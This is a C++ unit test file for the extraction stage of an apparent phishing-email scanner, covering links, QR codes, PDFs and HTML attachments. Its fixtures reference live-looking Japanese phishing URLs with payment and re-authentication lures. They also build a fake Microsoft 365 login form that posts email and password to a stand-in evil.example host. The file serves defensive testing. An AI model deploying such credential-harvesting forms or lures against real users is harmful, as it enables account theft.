#include "extract/extract.h"

#include <gtest/gtest.h>

#include <tuple>

#include "core/text.h"
#include "parse/parse.h"
#include "test_util.h"

namespace ps::extract {

TEST(Extract, EkinetLinksWithAnchorTextFromHtml) {
  std::string raw = test::read_file(test::source_dir() + "/tests/cases/ekinet-payment-2026-02-13.eml");
  core::Content c = extract_content(parse::parse_message("e.eml", raw));
  EXPECT_EQ(c.sender_domain, "iwkr.cn");
  EXPECT_FALSE(c.text_from_html);
  ASSERT_EQ(c.links.size(), 2u);
  EXPECT_EQ(c.links[0].url, "https://eki-net-carcini.ddnxw.cn/Perosnal_member/");
  EXPECT_EQ(c.links[0].anchor_text, "お支払い情報の確認・更新はこちら");
  EXPECT_EQ(c.links[0].defanged, "hxxps://eki-net-carcini[.]ddnxw[.]cn/Perosnal_member/");
  EXPECT_EQ(c.links[0].registrable_domain, "ddnxw.cn");
  EXPECT_EQ(c.links[0].found_in, "href");
  EXPECT_EQ(c.links[1].url, "https://www.eki-net.com/");
  EXPECT_NE(c.text.find("いつも「えきねっと」をご利用いただき"), std::string::npos);
}

TEST(Extract, PocketcardTextComesFromHtml) {
  std::string raw = test::read_file(test::source_dir() + "/tests/cases/pocketcard-reauth-2026-03-15.eml");
  core::Content c = extract_content(parse::parse_message("p.eml", raw));
  EXPECT_TRUE(c.text_from_html);
  EXPECT_NE(c.text.find("通知番号：sobu2ntdf-A"), std::string::npos);
  EXPECT_NE(c.text.find("48時間以内"), std::string::npos);
  ASSERT_EQ(c.links.size(), 1u);
  EXPECT_EQ(c.links[0].anchor_text, "今すぐ認証する");
  EXPECT_EQ(c.links[0].host, "caudshowcy.xy399566.cn");
  ASSERT_EQ(c.images.size(), 1u);
  EXPECT_TRUE(c.images[0].cid);
  EXPECT_EQ(c.images[0].alt, "Pocketcard");
}

}  // namespace ps::extract

namespace ps::extract {

namespace {
// Every link that says where it is written points at its own text.
void expect_ranges_point_at_urls(const core::Message& m, const core::Content& c) {
  for (const auto& l : c.links) {
    if (!l.part_bytes || l.wrapped || l.refanged || l.found_in == "unwrapped" || l.anchor_text == "atob()") continue;
    const core::Part* p = nullptr;
    for (const auto& q : m.parts)
      if (q.index == l.part) p = &q;
    ASSERT_NE(p, nullptr) << l.url;
    ASSERT_LE(l.part_bytes->end, p->text.size()) << l.url;
    EXPECT_EQ(core::trim(p->text.substr(l.part_bytes->begin, l.part_bytes->end - l.part_bytes->begin)), l.url);
  }
}
}  // namespace

TEST(Extract, SeedLinksPointAtTheirText) {
  for (const char* name : {"ekinet-payment-2026-02-13", "pocketcard-reauth-2026-03-15"}) {
    std::string raw = test::read_file(test::source_dir() + "/tests/cases/" + name + ".eml");
    core::Message m = parse::parse_message("x.eml", raw);
    core::Content c = extract_content(m);
    ASSERT_FALSE(c.links.empty());
    for (const auto& l : c.links) EXPECT_TRUE(l.part_bytes.has_value()) << l.url;
    expect_ranges_point_at_urls(m, c);
  }
}

TEST(Extract, LinksInAttachmentsQrCodesAndPdfs) {
  std::string html_file =
      "<html><head><title>Microsoft 365</title></head><body><form action=\"https://collect.evil.example/post.php\" "
      "method=post>Email <input name=email> Password <input type=password name=pass><button>Sign in</button></form>"
      "</body></html>";
  std::string pdf = "%PDF-1.4\n1 0 obj << /A << /S /URI /URI (https://pdf.evil.example/open) >> >> endobj\n%%EOF\n";
  std::string eml =
      "From: a@b.example\nTo: c@d.example\nSubject: s\nMIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"B\"\n\n"
      "--B\nContent-Type: text/plain; charset=UTF-8\n\n"
      "Scan the code or open the invoice. Backup address for your mailbox: https://backup.evil.example/\n"
      "mailbox/restore?user=c%40d.example&step=2\n"
      "--B\nContent-Type: image/png; name=\"scan.png\"\nContent-Disposition: inline; filename=\"scan.png\"\n"
      "Content-Transfer-Encoding: base64\n\n" +
      test::base64_lines(test::qr_png("https://qr.evil.example/m?id=7")) +
      "--B\nContent-Type: text/html; name=\"Invoice.html\"\nContent-Disposition: attachment; filename=\"Invoice.html\"\n"
      "Content-Transfer-Encoding: base64\n\n" + test::base64_lines(html_file) +
      "--B\nContent-Type: application/pdf; name=\"Invoice.pdf\"\nContent-Disposition: attachment; filename=\"Invoice.pdf\"\n"
      "Content-Transfer-Encoding: base64\n\n" + test::base64_lines(pdf) +
      "--B\nContent-Type: image/png; name=\"broken.png\"\nContent-Transfer-Encoding: base64\n\n" +
      test::base64_lines("\x89PNG\r\n\x1a\nnot really") + "--B--\n";
  core::Message m = parse::parse_message("a.eml", eml);
  core::Content c = extract_content(m);
  std::vector<std::tuple<std::string, std::string, std::string>> got;
  for (const auto& l : c.links) got.emplace_back(l.url, l.found_in, l.attachment);
  EXPECT_EQ(got, (std::vector<std::tuple<std::string, std::string, std::string>>{
                     {"https://backup.evil.example/mailbox/restore?user=c%40d.example&step=2", "text", ""},
                     {"https://qr.evil.example/m?id=7", "qr_code", "scan.png"},
                     {"https://collect.evil.example/post.php", "form_action", "Invoice.html"},
                     {"https://pdf.evil.example/open", "pdf", "Invoice.pdf"}}));
  EXPECT_TRUE(c.links[0].wrapped);
  ASSERT_EQ(c.html_files.size(), 1u);
  EXPECT_EQ(c.html_files[0].filename, "Invoice.html");
  EXPECT_EQ(c.html_files[0].title, "Microsoft 365");
  EXPECT_EQ(c.html_files[0].password_inputs, 1);
  EXPECT_EQ(c.html_files[0].forms, 1);
  EXPECT_EQ(c.images_scanned, 2);
  EXPECT_EQ(c.pdfs_scanned, 1);
  ASSERT_EQ(c.scan_notes.size(), 1u);  // the broken image says so
  EXPECT_EQ(c.scan_notes[0].kind, "qr_code");
  EXPECT_NE(c.scan_notes[0].detail.find("PNG"), std::string::npos);
  // the attachment's text is not the mail's text
  EXPECT_EQ(c.text.find("Password"), std::string::npos);
  expect_ranges_point_at_urls(m, c);
}

}  // namespace ps::extract

namespace ps::extract {

// A sending kit that labels its HTML page text/plain: the page's text is read, not its markup.
TEST(Extract, PlainPartHoldingAnHtmlPageIsReadAsHtml) {
  EXPECT_TRUE(looks_like_html("\n<table width=\"100%\"><tbody><tr><td><p>Hi</p></td></tr></tbody></table>"));
  EXPECT_FALSE(looks_like_html("<john@example.org> wrote:\n> quoted text\nand a reply"));
  EXPECT_FALSE(looks_like_html("Use <b> for bold."));
  std::string eml =
      "From: a@b.example\nTo: c@d.example\nSubject: s\nMIME-Version: 1.0\nContent-Type: text/plain\n\n"
      "<html><body><table><tr><td><p>Your payment failed.</p><a href=\"https://pay.evil.example/x\">Update</a>"
      "</td></tr></table></body></html>\n";
  core::Message m = parse::parse_message("x.eml", eml);
  core::Content c = extract_content(m);
  EXPECT_TRUE(c.text_from_html);
  EXPECT_EQ(c.text.find("<td>"), std::string::npos);
  EXPECT_NE(c.text.find("Your payment failed."), std::string::npos);
  ASSERT_EQ(c.links.size(), 1u);
  EXPECT_EQ(c.links[0].url, "https://pay.evil.example/x");
  EXPECT_EQ(c.links[0].found_in, "href");
}

}  // namespace ps::extract
